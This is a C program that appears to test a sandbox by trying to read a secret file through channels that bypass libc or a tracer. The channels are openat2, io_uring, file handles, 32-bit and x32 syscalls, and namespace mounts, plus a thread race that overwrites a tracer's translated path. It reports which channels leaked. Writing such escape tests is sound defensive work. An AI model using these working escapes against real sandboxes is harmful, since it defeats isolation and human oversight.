// System calls that go round libc, a tracer's table or a path. Prints the name of each that gave the secret away.
//   calls FILE             as a command; FILE holds, a line each: SECRET TOKEN HANDLE INSIDE_HOST INSIDE MILLISECONDS MILLISECONDS
//   calls --handle FILE    on the host: prints the file's handle as hex
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *secret, *token;

static void reached(const char *name) {
  printf("%s\n", name);
  fflush(stdout);
}

static int reads_token(int fd) {
  char text[256] = {0};
  if (fd < 0) return 0;
  ssize_t length = read(fd, text, sizeof text - 1);
  close(fd);
  return length > 0 && strstr(text, token) != NULL;
}

static void with_openat2(void) {
  unsigned long how[3] = {O_RDONLY, 0, 0};
  if (reads_token(syscall(437, AT_FDCWD, secret, how, sizeof how))) reached("openat2");
}

static void with_io_uring(void) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  int ring = syscall(425, 4, &p);
  if (ring < 0) return;
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
                  IORING_OFF_CQ_RING);
  struct io_uring_sqe *sqe = mmap(0, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED) return;
  memset(sqe, 0, sizeof *sqe);
  sqe->opcode = IORING_OP_OPENAT;
  sqe->fd = AT_FDCWD;
  sqe->addr = (unsigned long)secret;
  *(unsigned *)(sq + p.sq_off.array) = 0;
  __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(426, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 1) return;
  struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  if (reads_token(cqe->res)) reached("io_uring");
}

static void with_handle(const char *hex) {
  char buffer[256] = {0};
  size_t length = strlen(hex) / 2;
  if (length == 0 || length > sizeof buffer) return;
  for (size_t i = 0; i < length; i++) sscanf(hex + 2 * i, "%2hhx", (unsigned char *)&buffer[i]);
  int mount = open("/", O_RDONLY | O_DIRECTORY), here = open(".", O_RDONLY | O_DIRECTORY);
  if (reads_token(open_by_handle_at(here, (struct file_handle *)buffer, O_RDONLY)) ||
      reads_token(open_by_handle_at(mount, (struct file_handle *)buffer, O_RDONLY)))
    reached("open_by_handle_at");
}

#ifdef __x86_64__
// A kernel without 32-bit calls ends their caller.
static sigjmp_buf without_them;
static void leave(int _) { siglongjmp(without_them, 1); }

static void with_32_bit_calls(void) {
  char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) return;
  strncpy(low, secret, 4095);
  int fd = -1;
  signal(SIGSEGV, leave);
  if (sigsetjmp(without_them, 1) == 0)
    __asm__ volatile("int $0x80" : "=a"(fd) : "a"(5), "b"(low), "c"(O_RDONLY), "d"(0) : "memory", "r8", "r9", "r10", "r11");
  signal(SIGSEGV, SIG_DFL);
  if (reads_token(fd)) reached("32-bit calls (int 0x80)");
  if (reads_token(syscall(0x40000000 | SYS_open, secret, O_RDONLY, 0))) reached("x32 calls");
}
#endif

static void with_mounts(void) {
  mkdir("escape-mount", 0755);
  if (mount("/", "escape-mount", 0, MS_BIND | MS_REC, 0) == 0 || mount("none", "escape-mount", "tmpfs", 0, 0) == 0)
    reached("mount");
  rmdir("escape-mount");
  long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) _exit(0);
  if (child > 0) reached("clone into a namespace");
  if (unshare(CLONE_NEWUSER) == 0) reached("unshare");
}

// A tracer that translates paths writes the translation below the stack pointer. Another thread writes over it.
static char *volatile place;
static volatile int racing = 1, busy;

static void *overwrite(void *_) {
  size_t length = strlen(secret) + 1;
  while (racing) {
    __atomic_store_n(&busy, 1, __ATOMIC_SEQ_CST);
    char *at = __atomic_load_n(&place, __ATOMIC_SEQ_CST);
    if (at) for (int i = 0; i < 64; i++) memcpy(at, secret, length);
    __atomic_store_n(&busy, 0, __ATOMIC_SEQ_CST);
  }
  return _;
}

#ifdef __x86_64__
#define RED_ZONE 128
static long raced(long number, long a, const char *path, long c, long d, size_t translated) {
  long result;
  char *sp;
  __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
  place = sp - RED_ZONE - translated;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(path), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  // From here on the memory is ours again: nothing is called before the other has let go of it.
  __atomic_store_n(&place, 0, __ATOMIC_SEQ_CST);
  while (__atomic_load_n(&busy, __ATOMIC_SEQ_CST)) __builtin_ia32_pause();
  return result;
}

static long now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

// One after the other: where content is held, describing still may not be.
static void with_race(const char *host, const char *inside, long describe_limit, long read_limit) {
  pthread_t thread;
  struct stat own, found;
  size_t translated = strlen(host) + 1;
  if (stat(inside, &own) < 0 || pthread_create(&thread, 0, overwrite, 0)) return;
  for (long end = now() + describe_limit; now() < end;) {
    if (raced(SYS_newfstatat, AT_FDCWD, inside, (long)&found, 0, translated) < 0 || found.st_ino == own.st_ino) continue;
    reached("race: describe");
    break;
  }
  for (long end = now() + read_limit; now() < end;) {
    if (!reads_token(raced(SYS_openat, AT_FDCWD, inside, O_RDONLY, 0, translated))) continue;
    reached("race: read");
    break;
  }
  racing = 0;
  pthread_join(thread, 0);
}
#endif

int main(int count, char **given) {
  if (count == 3) {
    struct {
      struct file_handle head;
      unsigned char rest[128];
    } handle;
    int mount;
    handle.head.handle_bytes = sizeof handle.rest;
    if (name_to_handle_at(AT_FDCWD, given[2], &handle.head, &mount, 0) < 0) return 1;
    for (size_t i = 0; i < sizeof handle.head + handle.head.handle_bytes; i++) printf("%02x", ((unsigned char *)&handle)[i]);
    return 0;
  }
  static char text[16384];
  char *lines[7], *rest = text;
  FILE *file = count == 2 ? fopen(given[1], "r") : NULL;
  if (!file || fread(text, 1, sizeof text - 1, file) == 0) return 2;
  fclose(file);
  for (int i = 0; i < 7; i++)
    if (!(lines[i] = strsep(&rest, "\n"))) return 2;
  secret = lines[0];
  token = lines[1];
  with_openat2();
  with_io_uring();
  with_handle(lines[2]);
#ifdef __x86_64__
  with_32_bit_calls();
  with_race(lines[3], lines[4], atol(lines[5]), atol(lines[6]));
#endif
  with_mounts();
  printf("done\n");
  return 0;
}
